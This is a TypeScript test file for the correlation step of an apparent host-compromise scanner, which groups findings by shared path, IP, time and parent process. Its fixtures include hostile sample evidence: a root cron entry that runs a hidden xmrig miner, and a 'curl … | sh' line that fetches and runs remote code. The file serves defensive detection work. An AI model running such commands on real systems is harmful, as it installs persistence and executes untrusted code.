import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ReportFinding } from '../model/report';
import { correlate } from './correlate';

function finding(id: string, extra: Partial<ReportFinding>): ReportFinding {
  return {
    id,
    rule: 'test/rule',
    severity: 'high',
    category: 'file_ioc',
    title: id,
    detail: '',
    action: '',
    evidence: [],
    attack: [],
    tactics: [],
    ...extra,
  };
}

const groupOf = (groups: ReturnType<typeof correlate>, id: string) => groups.find((g) => g.findings.includes(id))?.findings.sort();

describe('correlate', () => {
  it('joins a cron line to the binary it runs, and a login to the address it came from', () => {
    const groups = correlate([
      finding('A', { path: '/tmp/.x/xmrig', time: '2026-11-01T00:00:00Z' }),
      finding('B', {
        path: '/var/spool/cron/crontabs/root',
        evidence: ['*/10 * * * * /tmp/.x/xmrig >/dev/null'],
        time: '2026-11-05T00:00:00Z',
      }),
      finding('C', { ip: '203.0.113.5', time: '2026-11-09T00:00:00Z' }),
      finding('D', { evidence: ['curl http://203.0.113.5/x | sh'], time: '2026-11-12T00:00:00Z' }),
    ]);
    assert.deepEqual(groupOf(groups, 'A'), ['A', 'B']);
    assert.deepEqual(groupOf(groups, 'C'), ['C', 'D']);
    assert.ok(groups.find((g) => g.findings.includes('A'))?.links.includes('path:/tmp/.x/xmrig'));
  });

  it('keeps apart findings that only share root, /tmp or /bin/sh, days apart', () => {
    const groups = correlate([
      finding('A', { path: '/tmp/a', user: 'root', evidence: ['/bin/sh -c x'], time: '2026-11-01T00:00:00Z' }),
      finding('B', { path: '/tmp/b', user: 'root', evidence: ['/bin/sh -c y'], time: '2026-11-05T00:00:00Z' }),
    ]);
    assert.equal(groups.length, 2);
  });

  it('joins findings within the time window, and a process with its parent', () => {
    const groups = correlate([
      finding('A', { path: '/opt/a', time: '2026-11-01T00:00:00Z' }),
      finding('B', { path: '/opt/b', time: '2026-11-01T00:20:00Z' }),
      finding('C', {
        pid: 900,
        process: {
          pid: 900,
          name: 'sh',
          exe: null,
          cmdline: '',
          user: 'www-data',
          startedAt: null,
          chain: 'systemd(1) > nginx(800) > sh(900)',
        },
      }),
      finding('D', { pid: 800 }),
    ]);
    assert.deepEqual(groupOf(groups, 'A'), ['A', 'B']);
    assert.deepEqual(groupOf(groups, 'C'), ['C', 'D']);
  });
});
